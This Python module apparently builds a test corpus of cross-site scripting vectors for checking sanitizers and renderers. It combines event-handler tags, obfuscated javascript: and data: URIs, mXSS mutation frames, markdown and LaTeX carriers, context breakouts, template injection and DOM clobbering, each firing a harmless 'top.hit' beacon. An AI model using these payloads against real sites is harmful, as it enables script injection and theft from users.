"""Texts that run a script in a page that prints them carelessly: families of attacks, each with its
variations, made and not collected.

The families are those of OWASP's Cross Site Scripting Filter Evasion Cheat Sheet and, where the
text is harmless until a browser has read and written it again, of "mXSS Attacks" (Heiderich and
others, CCS 2013). A script calls `top.hit(<number of the vector>)`.
"""

from collections.abc import Iterator
from itertools import product

# "@" becomes the number of the vector; "§", in the frames below, what stands in them.
CALL = "top.hit(@)"

# What runs by itself, as soon as it is part of a page.
PAYLOADS = (
    f"<img src=x onerror={CALL}>",
    f"<script>{CALL}</script>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f'<iframe srcdoc="<script>{CALL}</script>"></iframe>',
    f'<iframe src="javascript:{CALL}"></iframe>',
    f"<style onload={CALL}></style>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<video><source onerror={CALL}></video>",
    f"<b style=animation-name:x onanimationstart={CALL}>x</b>",
)
_ELEMENTS = (
    *("img src=x", "svg", "body", "details open", "input autofocus", "select autofocus"),
    *("textarea autofocus", "button autofocus", "a href=# tabindex=1 autofocus", "video src=x"),
    *("audio src=x", "video><source", "iframe src=about:blank", "object data=x", "embed src=x"),
    *("link rel=stylesheet href=x", "style", "script src=x", "marquee", "b contenteditable"),
    *("b popover", "math", "mi", "h3", "table", "td", "p", "section", "span", "annotation"),
    *("svg><animate attributeName=x dur=1s", "svg><set attributeName=x", "track", "frameset"),
    *("dialog open", "meter", "x-y", "isindex", "image src=x", "form", "keygen autofocus"),
)
_EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onstart", "onanimationstart"),
    *("onmouseover", "onpointerenter", "onclick", "onbeforetoggle", "ONERROR", "onx"),
)
_BETWEEN = (" ", "/", "\n", "\t", "\f", " / ", '"', " a=b ", "\x00", "\x0b")
_QUOTES = ('"§"', "'§'", "§", "`§`", "&quot;§&quot;", '"§', "§//")

_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java&#x0A;script:", "&#106;avascript:"),
    *("&#x6A&#x61vascript:", "javascript&colon;", "javascript&Tab;:", "java&NewLine;script:"),
    *(
        "\x01javascript:",
        "\x1bjavascript:",
        " javascript:",
        "\u00a0javascript:",
        "\u3000javascript:",
    ),
    *(
        "javascript\\:",
        "%6Aavascript:",
        "javascript%3A",
        "javascript://%0A",
        "javascript:/*--></*/",
    ),
    *("view-source:javascript:", "feed:javascript:", "jar:javascript:", "vbscript:", "livescript:"),
    *(
        "java\x00script:",
        "j\u0430vascript:",
        "\u202ejavascript:",
        "javascript&#58;",
        "x:javascript:",
    ),
    *("data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD50b3AuaGl0KDEpPC9zY3JpcHQ+#"),
    *(
        "data:image/svg+xml,<svg onload=",
        "blob:",
        "filesystem:",
        "//x.org/\\javascript:",
        "&#0;javascript:",
    ),
)
_CARRIERS = (
    "[x](§)",
    "[x](<§>)",
    "![x](§)",
    "<§>",
    "[x]: §\n\n[x]",
    "[x]: <§> 'y'\n\n![x]",
    '<a href="§">x</a>',
    "<a href='§'>x</a>",
    "<a href=§>x</a>",
    '<img src="§">',
    '<area href="§">',
    '<form action="§"><button>x</button></form>',
    '<button formaction="§">x</button>',
    '<svg><a xlink:href="§"><text>x</text></a></svg>',
    '<math href="§"><mi>x</mi></math>',
    '<math><mi xlink:href="§">x</mi></math>',
    '<base href="§">',
    '<meta http-equiv="refresh" content="0;url=§">',
    '<iframe src="§"></iframe>',
    '<object data="§"></object>',
    '<link rel="stylesheet" href="§">',
    '<svg><use href="§#x"/></svg>',
    '<blockquote cite="§">x</blockquote>',
    "x[^1]\n\n[^1]: [y](§)",
    "| a |\n|---|\n| [x](§) |",
    r"$\href{§}{x}$",
)
# What a browser reads in two ways: once as text, and once, printed again, as elements.
_MUTATIONS = (
    "<svg><style>§</style></svg>",
    '<svg></p><style><a id="</style>§">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;§">',
    "<form><math><mtext></form><form><mglyph><style></math>§",
    '<noscript><p title="</noscript>§">',
    '<noembed><p title="</noembed>§">',
    '<noframes><p title="</noframes>§">',
    '<textarea><p title="</textarea>§">',
    '<title><p title="</title>§">',
    '<xmp><p title="</xmp>§">',
    '<iframe><p title="</iframe>§">',
    '<style><p title="</style>§">',
    '<listing><p title="</listing>§">',
    "<plaintext>§",
    "<template>§</template>",
    "<select><style></select>§",
    "<select><option><script></option></select>§",
    '<math><annotation-xml encoding="text/html">§</annotation-xml></math>',
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>§'>",
    '<svg><foreignObject><p title="</p>§">',
    "<svg><desc><![CDATA[</desc>§]]></svg>",
    "<svg><title><![CDATA[</title>§]]></svg>",
    "<![CDATA[§]]>",
    "<!--§",
    "<!-->§-->",
    "<!--->§-->",
    "<!-- --!>§",
    "<!DOCTYPE x [<!ENTITY y '§'>]>&y;",
    "<?x §?>",
    "<?xml-stylesheet href='data:,'?>§",
    "</x §>",
    "<x §",
    "<b><i></b>§</i>",
    "<table><td>§</table>",
    "<table>§</table>",
    "<math><mi><table><mi>§",
    "<ruby><rt>§",
    "<a href=x><a href=y>§",
    "<p><svg><p>§",
    "&lt;svg&gt;§",
    "<<x>§",
    "<§",
    "<scr<script>ipt>§",
    "<b a='§",
    "<b a=§",
    "\u2028§\u2029",
    "\ufeff§",
    "\x1b$B§\x1b(B",
    "\ue000§\ue001",
)
_MARKDOWN = (
    "§",
    "### §",
    "§\n===",
    "- §",
    "- [x] §",
    "1. §",
    "> §",
    "> [!NOTE]\n> §",
    "> [!§]\n> x",
    "**§**",
    "*§",
    "~~§~~",
    "`§`",
    "`` ` §",
    "```\n§\n```",
    "```§\nx\n```",
    "```python\n§\n```",
    "```math\n§\n```",
    "~~~ § ~~~\nx",
    "    §",
    "| § |\n|---|\n| § |",
    "| a |\n|:§:|\n| b |",
    "[§](/x)",
    "[x](/x '§')",
    '[x](/x "§")',
    '[x](/x"§")',
    "[x](/x§)",
    "![§](/x.png)",
    "![x](/x.png '§')",
    "![x](/§.png)",
    "[§]: /x\n\n[§]",
    "[x]: /x '§'\n\n[x]",
    "x[^§]\n\n[^§]: y",
    "x[^1]\n\n[^1]: §",
    "<https://x.org/§>",
    "https://x.org/§",
    "www.x.org/§",
    "<x@y.org§>",
    "\\§",
    "a\\\n§",
    "<details><summary>§</summary>\n\n§\n\n</details>",
    '<abbr title="§">x</abbr>',
    "<kbd>§</kbd>",
    '<a href="/x" title="§">x</a>',
    "<sub>§</sub>",
    '<td class="§">x</td>',
    "§\n: §",
    ":::§\nx\n:::",
    "qz0f0x§qz0f0x $x$",
)
_FORMULAS = (
    "$§$",
    "$$§$$",
    r"\(§\)",
    r"\[§\]",
    r"$\text{§}$",
    r"$\mathrm{§}$",
    r"$\operatorname{§}$",
    r"$\begin{§}x\end{§}$",
    r"$\begin{array}{§}x\end{array}$",
    r"$\color{§}{x}$",
    r"$\textcolor{§}{x}$",
    r"$\class{§}{x}$",
    r"$\htmlId{§}{x}$",
    r"$\htmlStyle{§}{x}$",
    r"$\htmlData{§}{x}$",
    r"$\href{§}{x}$",
    r"$\url{§}$",
    r"$\includegraphics{§}$",
    r"$\tag{§} x$",
    r"$\label{§} x$ $\eqref{§}$",
    r"$\ce{§}$",
    r"$\SI{1}{§}$",
    r"$\unit{§}$",
    r"$\def\x{§}\x$",
    r"$\newcommand{\x}{\text{§}}\x$",
    r"$\hspace{1em;§}x$",
    r"$\unicode{§}$",
    r"$\verb|§|$",
    r"$\href{javascript:§}{x}$",
    "$x</annotation></semantics></math>§$",
    r"$\text{</mtext></math>§}$",
    r"$\frac{§$",
    "$`§`$",
    "$x §",
    "| $|§|$ |\n|---|\n| b |",
)
# Out of an attribute, a title, a script of data, a comment, a template.
BREAKOUTS = (
    "§",
    '"§',
    "'§",
    '">§',
    "'>§",
    "</title>§",
    "</script>§",
    "</SCRIPT >§",
    "<!--<script>§",
    "</style>§",
    "</textarea>§",
    "</noscript>§",
    "-->§",
    "]]>§",
    "?>§",
    "\\u003c/script\\u003e§",
    "\\x3c/script\\x3e§",
    "\\§",
    "\\';§//",
    '\\";top.hit(@);//§',
    '"};top.hit(@);//§',
    "';top.hit(@);'§",
    "${top.hit(@)}§",
    "`;top.hit(@)//§",
    "{{ § }}",
    "{% debug %}§",
    "{{ constructor.constructor('top.hit(@)')() }}§",
    "&lt;§",
    "&quot;&gt;§",
    "&#34;&#62;§",
    "\u2028§",
    "\r\n\r\n§",
    "\u202e§",
    "$x$ §",
    "**§**",
)
_NAMES = (
    *("body", "head", "forms", "cookie", "currentScript", "location", "documentElement"),
    *("getElementById", "querySelector", "addEventListener", "defaultView", "scripts", "title"),
    *("content", "answer", "search", "toc", "main", "hit", "top", "parent", "self", "name"),
)
_CLOBBERING = (
    "<a id=§>x</a>",
    "<a id=§ name=§ href=javascript:top.hit(@)>x</a>",
    "<a id=§></a><a id=§ name=href href=javascript:top.hit(@)>x</a>",
    "<form name=§><input name=§></form>",
    "<img name=§>",
    "<iframe name=§ src=about:blank></iframe>",
    "<object id=§></object>",
    '<h3 id="§">x</h3>',
    "### §",
    "x[^§]\n\n[^§]: y",
    r"$$x \label{§}$$",
)


def vectors() -> Iterator[tuple[str, str]]:
    """Yield (family, text); "@" in a text stands for the number that the script names."""
    for element, event, between, quotes in product(_ELEMENTS, _EVENTS, _BETWEEN, _QUOTES):
        # Of the product a part in which all meet: the whole is forty thousand.
        number = (
            7 * _ELEMENTS.index(element)
            + 5 * _EVENTS.index(event)
            + 3 * _BETWEEN.index(between)
            + _QUOTES.index(quotes)
        )
        if number % 29 == 0:
            value = quotes.replace("§", CALL)
            yield "events", f"<{element}{between}{event}={value}>"
    for scheme, carrier in product(_SCHEMES, _CARRIERS):
        end = "</script>" if scheme.endswith("<script>") else ""
        yield "addresses", carrier.replace("§", f"{scheme}{CALL}{end}")
    for frame, payload in product(_MUTATIONS, PAYLOADS):
        yield "mutations", frame.replace("§", payload)
    for frame, payload in product(_MARKDOWN, PAYLOADS):
        yield "markdown", frame.replace("§", payload)
    for frame, payload in product(_FORMULAS, PAYLOADS):
        yield "formulas", frame.replace("§", payload)
    for frame, payload in product(BREAKOUTS, PAYLOADS):
        yield "breakouts", frame.replace("§", payload)
    for frame, name in product(_CLOBBERING, _NAMES):
        yield "names", frame.replace("§", name)


def numbered() -> list[tuple[str, str]]:
    """(family, text) of every vector, the place in the list being its number."""
    distinct = dict.fromkeys(vectors())
    return [
        (family, text.replace("@", str(number))) for number, (family, text) in enumerate(distinct)
    ]
